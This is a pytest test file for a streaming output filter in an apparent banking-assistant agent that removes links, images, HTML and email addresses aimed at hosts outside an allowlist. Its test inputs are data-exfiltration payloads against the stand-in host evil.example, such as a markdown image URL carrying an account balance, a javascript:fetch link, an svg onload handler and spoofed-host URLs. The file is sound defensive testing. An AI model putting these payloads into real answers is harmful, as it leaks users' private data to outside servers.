"""What an answer may carry out: plain text, and links and addresses that are on a list."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskward.agent.outgoing import Outgoing

HOSTS = {"bank.example", "help.bank.example"}
KNOWN = {"alex@mail.example"}


def sent(text: str, pieces: int = 0) -> str:
    outgoing = Outgoing(HOSTS, KNOWN)
    size = max(1, len(text) // pieces) if pieces else max(1, len(text))
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join(p for part in parts for p in outgoing.feed(part)) + "".join(outgoing.flush())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![x](https://evil.example/p.png?d=5420) here.", "See x here."),
        ("See ![x][ref] here.", "See x here."),
        ("Click [here](https://evil.example/a b) now.", "Click here now."),
        ("Click [here](javascript:fetch('//evil.example')) now.", "Click here) now."),
        ("Go to https://evil.example/x?d=1.", "Go to [link removed]."),
        ("Go to evil.example/x, please.", "Go to [link removed], please."),
        ("Go to www.evil.example!", "Go to [link removed]!"),
        ("A <img src='https://evil.example/i'> picture", "A  picture"),
        ("A <svg onload=alert(1)", "A "),
        ("An <https://evil.example/> link", "An [link removed] link"),
        ("data:text/html,<b>x</b>", "[link removed]"),
        ("Write to eve@evil.example now.", "Write to [address removed] now."),
        ("[mail](mailto:eve@evil.example?body=x)", "mail"),
        ("ev\u200bil.example/x", "[link removed]"),
        ("https://user@bank.example@evil.example/", "[link removed]"),
        ("https://bank.example.evil.example/", "[link removed]"),
    ],
)
def test_what_is_taken_out(text: str, expected: str) -> None:
    assert sent(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Your balance is $5,420.50 (as of 3.5. at 10:30), e.g. for 1.5 % of O1003.",
        "See https://bank.example/fees?x=1 or [our page](https://help.bank.example/a).",
        "See help.bank.example for more.",
        "We write to alex@mail.example, and you to care@bank.example.",
        "Transfers arrive at once. [faq-transfer-time]\n\n- one\n- two: a < b, c > d",
        "I sent invoice.pdf. It has 3 pages.",
    ],
)
def test_what_stays(text: str) -> None:
    assert sent(text) == text


@given(
    st.lists(st.sampled_from(["Hello. ", "a ", "b\n", "1.5 % ", "yes! ", "O1003 "])),
    st.integers(1, 9),
)
def test_harmless_text_goes_out_as_it_came(words: list[str], pieces: int) -> None:
    text = "".join(words)
    assert sent(text, pieces) == text


@given(st.text(alphabet="ab./:@<>[]()! \nhtps-?evil", max_size=300), st.integers(1, 40))
def test_no_other_host_ever_goes_out(text: str, pieces: int) -> None:
    out = sent(f"{text} https://evil.example/{text}", pieces)
    assert "evil.example" not in out
    assert not re.search(r"https?://(?!bank\.example|help\.bank\.example)\w", out)


def test_pieces_stay_pieces() -> None:
    outgoing = Outgoing(HOSTS, KNOWN)
    assert outgoing.feed("Hello ") == []
    assert outgoing.feed("there. ") == ["Hello ", "there. "]
    assert outgoing.feed("And") == []
    assert outgoing.flush() == ["And"]
